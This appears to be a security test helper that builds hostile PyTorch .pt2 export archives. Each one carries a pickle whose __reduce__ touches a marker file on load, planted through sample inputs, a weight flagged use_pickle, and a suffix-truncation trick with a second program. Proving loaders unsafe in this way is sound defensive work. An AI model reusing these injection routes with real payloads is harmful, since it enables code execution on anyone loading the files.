"""Craft hostile .pt2 archives: a pickle inside that touches a marker file when fully unpickled."""

from __future__ import annotations

import io
import json
import pathlib
import pickle
import zipfile

import torch


class Touch:
    """Unpickling this (with full pickle) creates ``marker``: proof that code from the file ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (pathlib.Path.touch, (pathlib.Path(self.marker),))


def program_bytes(model: torch.nn.Module | None = None, example: torch.Tensor | None = None) -> bytes:
    model = model or torch.nn.Sequential(torch.nn.Linear(4, 3)).eval()
    example = example if example is not None else torch.randn(2, 4)
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(model, (example,)), buffer)
    return buffer.getvalue()


def _rewrite(data: bytes, edit) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for name in source.namelist():
            target.writestr(name, edit(name, source.read(name)))
    return out.getvalue()


def hostile_sample_inputs(marker: str | pathlib.Path, data: bytes | None = None) -> bytes:
    """The archive's sample inputs replaced by a pickle that runs code (torch falls back to full pickle)."""
    return _rewrite(data or program_bytes(), lambda name, content: pickle.dumps(Touch(str(marker)))
                    if "sample_inputs/" in name else content)


def hostile_weight(marker: str | pathlib.Path, data: bytes | None = None) -> bytes:
    """One weight marked ``use_pickle`` and replaced by a torch.save'd object that runs code."""
    data = data or program_bytes()
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    config_name = next(n for n in names if n.endswith("model_weights_config.json"))
    config = json.loads(zipfile.ZipFile(io.BytesIO(data)).read(config_name))
    key = next(iter(config["config"]))
    config["config"][key]["use_pickle"] = True
    target = config["config"][key]["path_name"]
    evil = io.BytesIO()
    torch.save(Touch(str(marker)), evil)

    def edit(name: str, content: bytes) -> bytes:
        if name == config_name:
            return json.dumps(config).encode()
        return evil.getvalue() if name.endswith(f"weights/{target}") else content
    return _rewrite(data, edit)


def hostile_second_program(marker: str | pathlib.Path, stored_as: str = "models/evil.jsox") -> bytes:
    """A clean program plus a second one stored under ``models/`` with another suffix (torch.export.load loads
    every file there, cutting the suffix's length off the name), whose sample inputs run code."""
    data = program_bytes()
    source = zipfile.ZipFile(io.BytesIO(data))
    name = stored_as[len("models/"):-len(".json")]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for member in source.namelist():
            target.writestr(member, source.read(member))
        copies = {"models/model.json": stored_as,
                  "data/weights/model_weights_config.json": f"data/weights/{name}_weights_config.json",
                  "data/constants/model_constants_config.json": f"data/constants/{name}_constants_config.json"}
        for original, copy in copies.items():
            target.writestr(f"archive/{copy}", source.read(f"archive/{original}"))
        target.writestr(f"archive/data/sample_inputs/{name}.pt", pickle.dumps(Touch(str(marker))))
    return out.getvalue()
